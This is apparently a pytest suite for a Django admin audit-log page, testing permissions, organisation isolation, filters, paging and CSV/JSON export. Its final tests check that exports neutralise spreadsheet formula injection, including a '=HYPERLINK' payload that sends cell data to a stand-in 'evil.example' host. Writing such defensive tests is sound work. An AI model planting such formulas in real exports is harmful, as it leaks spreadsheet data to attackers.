from __future__ import annotations

import csv
import io
import json
import uuid
from datetime import timedelta
from html import unescape

import pytest
from django.utils import timezone

from accounts import audit, trail
from accounts.actor import system
from accounts.models import AuditEvent
from accounts.origin import Origin, acting_from
from accounts.services import people
from oauthclients.console import audit_export
from oauthclients.services import clients, secrets

LOG = "/admin/audit/"
REQUEST = uuid.uuid4()


@pytest.fixture
def browser(cast, browser_of):
    return browser_of(cast.ada)


def text_of(response) -> str:
    assert response.status_code == 200, response.content
    return " ".join(unescape(response.content.decode()).split())


def entities(response) -> list[str]:
    assert response.status_code == 200, response.content
    return [row["line"].entity_name for row in response.context["rows"]]


def old(cast, name: str, days: float, **values) -> AuditEvent:
    line = audit.line(
        system(cast.acme),
        audit.Action.ROLE_EDITED,
        entity_type="role",
        entity_id=uuid.uuid4(),
        entity_name=name,
    )
    line.at = timezone.now() - timedelta(days=days)
    for field, value in values.items():
        setattr(line, field, value)
    line.save()
    return line


# --- Who may read it, and what of it -------------------------------------------------------------


@pytest.mark.parametrize("path", [LOG, f"{LOG}lines.csv", f"{LOG}lines.json"])
def test_it_takes_the_permission(cast, browser_of, path):
    cast.custom_role("Reader", "audits:audit:view")
    ben = browser_of(cast.ben)
    before = AuditEvent.objects.count()
    refused = ben.get(path)
    assert refused.status_code == 403
    assert b"Audits &gt; Audit &gt; View" in refused.content
    assert b"Audit log" not in ben.get("/admin/").content
    cast.give(cast.ben, ("Reader", cast.east))
    assert ben.get(path).status_code == 200
    assert b'href="/admin/audit/"' in ben.get("/admin/").content
    assert ben.post(path).status_code in (403, 405)
    assert AuditEvent.objects.count() <= before + 2  # the grant, and the download


def test_nothing_of_another_organization_is_in_it(cast, browser):
    foreign = cast.cleo
    line = AuditEvent.objects.filter(organization_id=cast.globex.id).first()
    for query in (
        "?range=all",
        f"?range=all&entity={foreign.id}",
        f"?range=all&who={foreign.id}",
        f"?range=all&q={line.entity_id}",
        "?range=all&name=Cleo",
        "?range=all&q=Globex",
    ):
        response = browser.get(LOG + query)
        assert all(row["line"].organization_id == cast.acme.id for row in response.context["rows"])
        assert not any("Cleo" in choice["label"] for choice in response.context["choices"])
    assert "Cleo" not in b"".join(browser.get(f"{LOG}lines.json?range=all").streaming_content).decode()


# --- Filters -------------------------------------------------------------------------------------


def test_the_newest_lines_come_first_a_page_at_a_time_without_javascript(cast, browser):
    for n in range(30):
        old(cast, f"Role {n}", days=n / 100)
    first = browser.get(LOG)
    assert len(entities(first)) == 25
    second = browser.get(first.context["older_url"])
    assert set(entities(first)).isdisjoint({f"Role {n}" for n in range(25, 30)})
    assert {"Role 29"} <= set(entities(second))
    assert second.context["newest_url"] == LOG


def test_periods(cast, browser):
    old(cast, "Six days", 5.9)
    old(cast, "Three weeks", 21)
    old(cast, "A year", 365)
    names = {"Six days", "Three weeks", "A year"}

    def seen(query):
        return names & set(entities(browser.get(LOG + query)))

    assert seen("?kind=role&range=today") == set()
    assert seen("?kind=role") == seen("?kind=role&range=7") == {"Six days"}
    assert seen("?action=role.edited&range=30") == {"Six days", "Three weeks"}
    assert seen("?action=role.edited&range=all") == names
    day = (timezone.now() - timedelta(days=21)).date()
    assert seen(f"?action=role.edited&from={day}&to={day}") == {"Three weeks"}
    assert seen(f"?action=role.edited&from={day}") == {"Six days", "Three weeks"}
    assert seen(f"?action=role.edited&to={day}") == {"Three weeks", "A year"}


@pytest.mark.parametrize(
    ("query", "message", "typed"),
    [
        ("?from=yesterday", "Enter a date like 2026-11-20.", 'value="yesterday"'),
        ("?to=2026-02-30", "Enter a date like 2026-11-20.", 'value="2026-02-30"'),
        ("?from=2026-03-02&to=2026-03-01", "This is before the first day.", 'value="2026-03-02"'),
    ],
)
def test_a_wrong_date_is_told_beside_its_field_and_kept(browser, query, message, typed):
    response = browser.get(LOG + query)
    text = text_of(response)
    assert "There is a problem" in text
    assert text.count(message) == 2
    assert typed in text
    assert entities(response) == []
    assert browser.get(f"{LOG}lines.csv{query}").status_code == 302


@pytest.mark.parametrize(
    "query",
    [
        "?range=x&kind=x&action=x&who=x&entity=x&request=x",
        "?q=%00&name=%00",
        "?below=x",
        f"?below=0001-01-01T00:00:00%2B14:00~{uuid.UUID(int=1)}",
        f"?below=9999-12-31T23:59:59-14:00~{uuid.UUID(int=1)}",
        f"?below=0001-01-01T00:00:00Z~{uuid.UUID(int=1)}",
        f"?below=9999-12-31T23:59:59Z~{uuid.UUID(int=1)}",
        "?from=0001-01-01",
    ],
)
def test_what_cannot_be_meant_is_no_error(browser, query):
    assert browser.get(LOG + query).status_code == 200


def test_the_form_keeps_what_is_chosen_and_the_address_says_it(cast, browser):
    text = text_of(browser.get(f"{LOG}?q=Ada&kind=user&action=user.created&range=30&entity={cast.ada.id}"))
    assert '<option value="user.created" selected>added the person</option>' in text
    assert '<option value="user" selected>Person</option>' in text
    assert '<input type="hidden" name="range" value="30">' in text
    assert f'<input type="hidden" name="entity" value="{cast.ada.id}">' in text
    assert "About ‘Ada’" in text
    assert f"{LOG}lines.csv?range=30&q=Ada&entity={cast.ada.id}&kind=user&action=user.created" in text


def test_a_person_or_client_by_name(cast, browser):
    """One is meant, or several are offered; also who is deleted, and a client that is gone."""
    client, _secret = cast.client(("Supervisor", cast.home), name="Nightly import", by=cast.ada)
    clients.delete(actor=cast.actor(cast.ada), client_id=client.id)
    only = browser.get(f"{LOG}?name=Ada")
    assert only.context["wanted"].who == str(cast.ada.id)
    assert {row["line"].actor_name for row in only.context["rows"]} == {"Ada"}
    gone = browser.get(f"{LOG}?name=nightly+IMPORT")
    assert gone.context["wanted"].who == str(client.id)
    people.delete(actor=system(cast.acme), user_id=cast.eve.id)
    assert browser.get(f"{LOG}?name=eve@acme").context["wanted"].who == str(cast.eve.id)
    cast.person("Ben Two", cast.home)
    several = browser.get(f"{LOG}?name=ben")
    assert [choice["label"] for choice in several.context["choices"]] == [
        "Ben (ben@acme.example)",
        "Ben Two (ben.two@acme.example)",
    ]
    assert entities(several) == []
    assert browser.get(several.context["choices"][0]["url"]).context["wanted"].who == str(cast.ben.id)
    assert "Nobody and no client is called ‘Zoe’." in text_of(browser.get(f"{LOG}?name=Zoe"))


def test_empty(cast, browser):
    assert "Nothing recorded in this period." in text_of(browser.get(f"{LOG}?action=group.deleted"))


def test_how_far_a_rare_match_was_looked_for_is_said(cast, browser, monkeypatch):
    monkeypatch.setattr(trail, "LOOKED_AT", 2)
    for n in range(6):
        old(cast, f"Role {n}", days=1 + n)
    response = browser.get(f"{LOG}?range=all&action=role.edited&q=Role+5")
    assert "Nothing matches back to" in text_of(response)
    assert "Look further back" in text_of(response)
    assert entities(browser.get(response.context["older_url"])) == ["Role 5"]


# --- A line --------------------------------------------------------------------------------------


def test_a_line_opens_to_what_changed_and_what_belongs_to_it(cast, browser):
    with acting_from(Origin(REQUEST, "192.0.2.7", "Mozilla/5.0 (a browser)")):
        client, _secret = cast.client(("Supervisor", cast.home), name="Billing sync", by=cast.ada)
        secret = secrets.generate(actor=cast.actor(cast.ada), client_id=client.id)
    response = browser.get(f"{LOG}?range=all&entity={client.id}")
    text = text_of(response)
    assert "generated a new secret" in text
    assert f"secret replaced (ends {secret.last_four})" in text
    assert secret.reveal() not in text
    for shown in ("192.0.2.7", "Mozilla/5.0 (a browser)", str(REQUEST), "In the same request"):
        assert shown in text
    assert "created the client: <bdi>Billing sync</bdi>" in text
    row = response.context["rows"][0]
    labels = [link["label"] for link in row["links"]]
    assert labels == [
        "Open ‘Billing sync’",
        "All about ‘Billing sync’",
        "All by ‘Ada’",
        "All of this request",
    ]
    for link in row["links"]:
        assert browser.get(link["url"]).status_code == 200
    assert entities(browser.get(row["links"][3]["url"])) == ["Billing sync"] * 2
    assert '<time datetime="' in text

    clients.delete(actor=cast.actor(cast.ada), client_id=client.id)
    gone = browser.get(f"{LOG}?range=all&entity={client.id}")
    assert "About ‘Billing sync’" in text_of(gone)
    assert all("Open" not in link["label"] for row in gone.context["rows"] for link in row["links"])


def test_every_action_and_kind_has_its_words_and_place():
    assert set(audit.SENTENCES) == set(audit.Action)
    assert set(audit.KINDS) == set(audit.Kind)
    assert {audit.kind_of(action) for action in audit.Action} == set(audit.Kind)
    assert set(audit.Action) >= audit.REFUSALS


def test_other_pages_lead_to_it(cast, browser, browser_of):
    client, _secret = cast.client(("Supervisor", cast.home), name="Billing sync", by=cast.ada)
    role = cast.role("Supervisor")
    for page, entity in (
        (f"/admin/integrations/oauth/{client.id}/", client.id),
        (f"/admin/people/{cast.ada.id}/activity/", cast.ada.id),
        ("/admin/organization/settings/", cast.acme.id),
    ):
        address = f"{LOG}?range=all&amp;entity={entity}"
        assert address in browser.get(page).content.decode(), page
    cast.custom_role("Viewer", "oauth:client:view", "authorization:role:view", "directory:user:view")
    cast.give(cast.ben, ("Viewer", None))
    ben = browser_of(cast.ben)
    assert LOG not in ben.get(f"/admin/integrations/oauth/{client.id}/").content.decode()
    assert LOG not in ben.get(f"/admin/people/{cast.ada.id}/activity/").content.decode()
    assert LOG not in ben.get(f"/admin/roles/{role.id}/").content.decode()


# --- Files ---------------------------------------------------------------------------------------


def content_of(response) -> str:
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode()


def test_the_files_hold_the_lines_of_the_filter_and_leave_a_line(cast, browser):
    for n in range(30):
        old(cast, f"Role {n}", days=n, before={"name": "x"}, after={"name": f"Rôle {n}"})
    query = "?range=all&action=role.edited"
    response = browser.get(f"{LOG}lines.csv{query}")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="audit-acme-')
    assert "no-store" in response["Cache-Control"]
    text = content_of(response)
    assert text.startswith("\ufefftime,who,")
    rows = list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert [row["entity"] for row in rows] == [f"Role {n}" for n in range(30)]
    assert rows[3]["after"] == '{"name": "Rôle 3"}'
    assert (rows[3]["sentence"], rows[3]["whoType"], rows[3]["whoId"]) == ("edited the role", "SYSTEM", "")

    response = browser.get(f"{LOG}lines.json{query}")
    assert response["Content-Type"] == "application/json"
    found = json.loads(content_of(response))
    assert [row["id"] for row in found] == [row["id"] for row in rows]
    assert found[3]["after"] == {"name": "Rôle 3"}
    assert tuple(found[0]) == audit_export.COLUMNS

    exported = AuditEvent.objects.filter(action=audit.Action.AUDIT_EXPORTED).order_by("at")
    assert [line.after for line in exported] == [
        {"format": form, "action": "role.edited"} for form in ("csv", "json")
    ]
    assert {(line.actor_id, line.entity_id) for line in exported} == {(cast.ada.id, cast.acme.id)}
    assert json.loads(content_of(browser.get(f"{LOG}lines.json?action=group.deleted"))) == []


def test_reading_the_page_leaves_no_line(browser):
    before = AuditEvent.objects.count()
    browser.get(LOG)
    assert AuditEvent.objects.count() == before


def test_a_file_is_read_and_sent_in_pieces(cast, browser, monkeypatch):
    """However many lines there are, no more than one piece of them is in memory."""
    sizes = []
    plain = trail.page

    def noting(*args, **kwargs):
        page = plain(*args, **kwargs)
        sizes.append(len(page.lines))
        return page

    monkeypatch.setattr(trail, "page", noting)
    for n in range(25):
        old(cast, f"Role {n}", days=n)
    rows = trail.every(cast.acme, trail.Filter(action="role.edited"), size=10)
    next(rows)
    assert sizes == [10]
    assert len(list(rows)) == 24
    assert sizes == [10, 10, 5]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("  =1", "'  =1"),
        ("＝1", "'＝1"),
        ("Ada = x", "Ada = x"),
        (None, ""),
        ({"name": "=1"}, '{"name": "=1"}'),
    ],
)
def test_no_cell_is_a_formula(value, written):
    assert audit_export.cell(value) == written


def test_a_name_that_is_a_formula_is_text_in_the_file(cast, browser):
    old(cast, '=HYPERLINK("https://evil.example/?"&A1)', days=0.01)
    text = content_of(browser.get(f"{LOG}lines.csv?action=role.edited"))
    row = next(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))
    assert row["entity"].startswith("'=HYPERLINK")
